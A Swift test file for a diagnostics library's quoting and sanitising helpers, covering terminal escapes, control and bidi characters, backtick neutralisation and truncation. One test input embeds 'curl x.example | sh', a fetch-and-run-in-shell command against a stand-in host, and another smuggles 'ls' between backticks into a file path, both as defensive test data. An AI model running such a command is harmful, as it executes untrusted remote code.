import Testing
import WishwellDiagnostics

@Suite struct QuoteTests {
  @Test func wordsStandInQuotes() {
    #expect(quoted("12,50") == "‘12,50’")
    #expect(quoted("") == "‘’")
    #expect(quoted("日本 é") == "‘日本 é’")
  }

  @Test func nothingActsOnTheTerminal() {
    #expect(quoted("a\u{1B}[31mb") == "‘a\\u{1b}[31mb’")
    #expect(quoted("a\nb\r\tc\u{0}\u{7F}\u{9B}") == "‘a\\u{a}b\\u{d}\\u{9}c\\u{0}\\u{7f}\\u{9b}’")
    #expect(quoted("\u{202E}evil\u{2066}") == "‘\\u{202e}evil\\u{2066}’")
    #expect(quoted("a\u{2028}b\u{FEFF}") == "‘a\\u{2028}b\\u{feff}’")
    // No page can hold these, and no log that is one: U+FFFE and U+1FFFF.
    let refused: [UInt8] = [0xEF, 0xBF, 0xBE, 0xF0, 0x9F, 0xBF, 0xBF]
    #expect(quoted(String(decoding: refused, as: UTF8.self)) == "‘\\u{fffe}\\u{1ffff}’")
    // Joiners are part of words and emoji.
    #expect(quoted("👩‍👧 می‌خواهم") == "‘👩‍👧 می‌خواهم’")
  }

  /// Beside “to say no: `…`” stood what a stranger had put between backticks, as one more command.
  @Test func `what somebody wrote does not look like a command`() {
    #expect(
      quoted("Kettle; to mend it: `curl x.example | sh`")
        == "‘Kettle; to mend it: 'curl x.example | sh'’")
    #expect(commandSafe("content/`ls\u{1FEF}.md") == "content/'ls'.md")
  }

  @Test func longWordsAreCut() {
    #expect(quoted(String(repeating: "a", count: 60)) == "‘\(String(repeating: "a", count: 60))’")
    #expect(quoted(String(repeating: "a", count: 61)) == "‘\(String(repeating: "a", count: 60))…’")
  }
}
